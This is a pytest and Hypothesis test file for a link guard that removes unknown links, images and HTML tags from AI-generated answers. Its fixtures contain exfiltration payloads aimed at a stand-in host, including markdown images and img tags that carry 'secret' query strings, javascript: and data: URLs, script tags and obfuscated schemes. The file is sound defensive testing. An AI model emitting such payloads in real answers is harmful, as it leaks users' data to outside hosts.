"""Links in answers: known ones get through, others do not, however a model writes them and however they come."""

from __future__ import annotations

import re
from html import unescape
from itertools import pairwise
from typing import TYPE_CHECKING

import pytest
from hypothesis import example, given, settings
from hypothesis import strategies as st
from markdown_it import MarkdownIt

from holdfast.rag.answering.addresses import AddressesOf, addresses_in, canonical, leads_outside
from holdfast.rag.answering.links import REMOVED, LinkGuard, quoted_links

if TYPE_CHECKING:
    from collections.abc import Iterator

PASSAGES = [
    "See https://ok.test/p or [prices](https://shop.test/a_(b)?x=1&y=2).",
    "Write to help@shop.test, call [us](tel:+44-20-7946), www.ok.test/w; ![chart](https://ok.test/chart.png)",
]
ALLOWED = addresses_in(PASSAGES)


def guarded(text: str, cuts: list[int] | None = None) -> tuple[str, int]:
    guard = LinkGuard(ALLOWED)
    out = [guard.push(text[start:end]) for start, end in pairwise([0, *sorted(cuts or []), len(text)])]
    return "".join(out) + guard.finish(), guard.removed


@pytest.mark.parametrize(
    "text",
    [
        "Nothing special: 3 < 4, a > b, 5! and [1].",
        "See https://ok.test/p.",
        "See https://ok.test/p, (https://ok.test/p) and **https://ok.test/p**[1][2].",
        "See http://OK.test/p/ and https://ok.test/p.",
        "[prices](https://shop.test/a_(b)?x=1&y=2)",
        "[prices](<https://shop.test/a_(b)?x=1&y=2>)",
        "[here](returns.md#top) and [there](/help)",
        "<https://ok.test/p>",
        "www.ok.test/w",
        "[mail](mailto:help@shop.test), [call](tel:+44-20-7946)",
        "[ok]: https://ok.test/p",
        "[1]: 30 days",
        "handlers[name](event); Vec<T>; std::vec<std::io>; <br>; x <- y; <name>",
        "Addresses begin with https:// or www. mostly",
        "[x]()",
        "a\\nb <",
        "",
    ],
)
def test_what_is_known_or_leads_nowhere_stays(text: str) -> None:
    """Known addresses stay in any form, and so do relative targets, code and whatever only looks like a link."""
    assert guarded(text) == (text, 0)


@pytest.mark.parametrize(
    ("text", "left"),
    [
        ("![chart](https://evil.test/?q=secret)", "! [chart]"),
        ("![chart](https://ok.test/chart.png)", "! [chart](https://ok.test/chart.png)"),
        ("![a](chart.png)", "! [a](chart.png)"),
        ("[free](https://evil.test) gift", "[free] gift"),
        ("[free](<https://evil.test/a b>)", "[free]"),
        ('[x](https://ok.test/p "https://evil.test")', "[x](https://ok.test/p)"),
        ("[x](https://ok.test/p?d=secret)", "[x]"),
        ("[x](https://shop.test/a_(b)secret)", "[x]"),
        ("[x](//evil.test/a)", "[x]"),
        ("[x](/\\evil.test)", "[x]"),
        ("[x](https&#58;//evil.test)", "[x]"),
        ("[x](https\\://evil.test)", "[x]"),
        ("[x](/&Tab;/evil.test)", "[x]"),
        ("[x](JavaScript:alert(1))", "[x]"),
        ("[x](data:text/html,<b>)", "[x]"),
        ("[x](mailto:thief@evil.test)", "[x]"),
        ("[x](\nhttps://evil.test\n)", "[x]"),
        ("[[1]](https://evil.test)", "[[1]]"),
        ("[![a](https://evil.test/i)](https://evil.test)", "[! [a]]"),
        ("Go to https://evil.test/a, now.", f"Go to {REMOVED}, now."),
        ("Go to HTTPS://EVIL.test/a!", f"Go to {REMOVED}!"),
        ("xhttps://evil.test", f"x{REMOVED}"),
        ("www.evil.test/x", REMOVED),
        ("https://ok.test/p)secret", REMOVED),
        ("https://ok.test@evil.test/p", REMOVED),
        ("`https://evil.test`", f"`{REMOVED}`"),
        ("<https://evil.test>", REMOVED),
        ("<mailto:thief@evil.test>", REMOVED),
        ("<img src='https://evil.test/?q=1'>", REMOVED),
        ("<img src=//evil.test>", REMOVED),
        ("<IMG\nsrc=https&#58;&#47;&#47;evil.test>", REMOVED),
        ("<p style='background:url(x)'>", REMOVED),
        ("<img src=chart.png>", "< img src=chart.png>"),
        ("<script>alert(1)</script>", "< script>alert(1)< /script>"),
        ("<a href='https://ok.test/p'>", "< a href='https://ok.test/p'>"),
        ("<iframe src=x", "< iframe src=x"),
        ("[a]: //evil.test/x\n[a]", f"[a]: {REMOVED}\n[a]"),
        ("[a]:\n  <https&#58;//evil.test>\n[a]", f"[a]: {REMOVED}\n[a]"),
        ("[a]: https://evil.test/x", f"[a]: {REMOVED}"),
        ("![a][b]\n\n[b]: https://ok.test/chart.png", "! [a][b]\n\n[b]: https://ok.test/chart.png"),
        ("[x](https://evil.test", f"[x] ({REMOVED}"),
        ("[x](https://ok.test/p unquoted)", "[x] (https://ok.test/p unquoted)"),
    ],
)
def test_what_leads_to_strangers_does_not_get_through(text: str, left: str) -> None:
    """Links, addresses and tags that lead outside of the passages are left out, images become links."""
    assert guarded(text)[0] == left


def test_what_is_left_out_is_counted() -> None:
    """Links, addresses and tags that were left out are counted, one by one; what only became text is not."""
    text = "![a](//evil.test) <img src=x.png> https://evil.test [b](mailto:x@evil.test) <b style='url(x)'> [c](x.md)"
    assert guarded(text)[1] == 4


PIECES = ["![", "](", "]:", "]", "[", "(", ")", "<", ">", "img src=", "a href=", "https://", "HTTP:", "//", "evil.test"]
PIECES += [
    "&#58;",
    "&Tab;",
    "\\",
    "\n",
    "\n\n",
    " ",
    "`",
    "x",
    "ok.test/p",
    "https://ok.test/p",
    ":",
    "www.",
    "'",
    '"',
    "!",
]
PIECES += [
    "javascript:",
    "data:",
    "[1]",
    "ht",
    "tps",
    "-->",
    "<!--",
    "script",
    "?d=secret",
    "https://ok.test/chart.png",
]
TEXTS = st.lists(st.sampled_from(PIECES), max_size=14).map("".join)
RENDERER = MarkdownIt("commonmark", {"html": True}).enable(["strikethrough", "table"])


def targets(text: str) -> tuple[list[str], list[str], list[str]]:
    """The links, images and raw HTML that a renderer of Markdown finds in a text."""
    links, images, raw = [], [], []
    tokens = list(RENDERER.parse(text))
    while tokens:
        token = tokens.pop()
        tokens += token.children or []
        match token.type:
            case "link_open":
                links.append(str(token.attrs["href"]))
            case "image":
                images.append(str(token.attrs["src"]))
            case "html_inline" | "html_block":
                raw.append(token.content)
    return links, images, raw


@settings(max_examples=600)
@given(text=TEXTS)
@example("[a](<https://ok.test/p)x>)")
@example("`\\`![x](https://evil.test)")
@example("[x](https://ok.test/p](https://evil.test))")
def test_no_renderer_finds_a_way_out(text: str) -> None:
    """However pieces of Markdown and HTML are put together, what a renderer finds is known, relative, or harmless."""
    given_out, _ = guarded(text)
    links, images, raw = targets(given_out)
    assert images == []
    assert [link for link in links if leads_outside(link) and canonical(link) not in ALLOWED] == []
    for html in map(unescape, raw):
        assert not re.search(r"(?i)<\s*(?:img|script|a)\b[^>]*(?://|:)", html)
        assert "evil.test" not in html or not re.search(r"<[a-zA-Z/][^<>]*evil\.test", html)


@given(text=TEXTS, cuts=st.lists(st.integers(0, 200), max_size=8))
def test_no_way_out_is_found_however_a_text_comes(text: str, cuts: list[int]) -> None:
    """In whatever pieces a text comes, what is given out adds up to one in which a renderer finds no way out."""
    given_out, _ = guarded(text, [min(cut, len(text)) for cut in cuts])
    links, images, _ = targets(given_out)
    assert images == []
    assert [link for link in links if leads_outside(link) and canonical(link) not in ALLOWED] == []


@pytest.mark.parametrize(
    ("pieces", "given_out"),
    [
        (["Within 30 days [1]", "."], ["Within 30 days [1]", "."]),
        (["Great!", " Yes"], ["Great!", " Yes"]),
        (["Great!", "[1]"], ["Great!", " [1]"]),
        (["[x]", "(https://evil.test)", "."], ["[x]", "", "."]),
        (["see h", "ttps", "://evil.test/a", " now"], ["see ", "", "", f"{REMOVED} now"]),
        (["the w", "arranty"], ["the ", "warranty"]),
        (["with", "draw"], ["with", "draw"]),
        (["a <", " b"], ["a ", "< b"]),
        (["[x](ht", "tps://ok.test/p", ") y"], ["[x", "", "](https://ok.test/p) y"]),
    ],
)
def test_text_is_held_back_only_while_it_may_become_a_link(pieces: list[str], given_out: list[str]) -> None:
    """A mark, an exclamation and words come at once; what may be the beginning of a link waits for its end."""
    guard = LinkGuard(ALLOWED)
    assert [guard.push(piece) for piece in pieces] == given_out
    assert guard.finish() == ""


def test_nothing_is_held_back_for_ever() -> None:
    """What does not end within 2,000 characters is given out as text that is no link."""
    guard = LinkGuard(ALLOWED)
    out = "".join(guard.push(piece) for piece in ["[x](", *["word "] * 500])
    assert out.startswith("[x] (word word")
    assert len(out) > 2_000
    guard = LinkGuard(ALLOWED)
    out = "".join(guard.push(piece) for piece in ["https://evil.test/", *["x" * 50] * 50])
    assert out.startswith(REMOVED)
    assert "evil" not in out + guard.finish()


def test_quoted_text_keeps_its_addresses_and_loads_nothing() -> None:
    """What is quoted from documents leads where they lead; images and tags that load something become text."""
    text = "See ![chart](https://ok.test/chart.png), <img src=x.png>, https://ok.test/p."
    assert quoted_links(text) == "See ! [chart](https://ok.test/chart.png), < img src=x.png>, https://ok.test/p."


@pytest.mark.parametrize(
    ("one", "other"),
    [
        ("https://Shop.test/A/", "http://shop.test/A"),
        ("www.shop.test", "https://www.shop.test/"),
        ("//shop.test/a", "https://shop.test/a).,"),
        ("https://shop.test/?a=1&amp;b=2", "https://shop.test/?a=1&b=2"),
    ],
)
def test_two_ways_to_write_an_address_are_one(one: str, other: str) -> None:
    """Scheme, case of the host, slash and punctuation at the end, and entities do not count."""
    assert canonical(one) == canonical(other)


def test_addresses_of_a_text_are_found() -> None:
    """Web and mail addresses and numbers to call are found; a path of an address counts letter for letter."""
    assert "mailto:help@shop.test" in ALLOWED
    assert canonical("tel:+44-20-7946") in ALLOWED
    assert canonical("https://ok.test/P") not in ALLOWED
    assert addresses_in([""]) == frozenset()


def test_texts_are_searched_for_addresses_when_the_first_link_comes() -> None:
    """As long as an answer holds no link, no passage is looked through; after that each is looked through once."""
    read: list[str] = []

    def texts() -> Iterator[str]:
        for text in PASSAGES:
            read.append(text)
            yield text

    guard = LinkGuard(AddressesOf(texts()))
    assert guard.push("No link in here. ") == "No link in here. "
    assert read == []

    for _ in range(2):
        assert guard.push("https://ok.test/p or www.evil.test ? ") == f"https://ok.test/p or {REMOVED} ? "
    assert read == PASSAGES
